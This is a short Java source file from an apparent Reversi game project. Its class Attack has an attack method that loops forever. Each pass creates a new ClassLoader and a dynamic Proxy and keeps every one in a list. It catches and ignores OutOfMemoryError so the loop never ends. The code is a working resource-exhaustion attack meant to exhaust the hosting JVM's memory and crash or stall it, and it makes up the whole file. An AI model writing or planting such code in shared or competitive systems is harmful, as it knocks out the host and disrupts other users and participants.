package reversi;

import java.lang.reflect.Proxy;
import java.util.ArrayList;
import java.util.List;

class Attack {
    /** Each loader has classes of its own. */
    static String attack(IView view) throws Exception {
        List<Object> all = new ArrayList<>();
        while (true) {
            try {
                ClassLoader loader = new ClassLoader(Attack.class.getClassLoader()) {};
                all.add(Proxy.newProxyInstance(loader, new Class<?>[] {Runnable.class}, (self, method, values) -> null));
            } catch (OutOfMemoryError full) {
                // There may be more in a moment.
            }
        }
    }
}
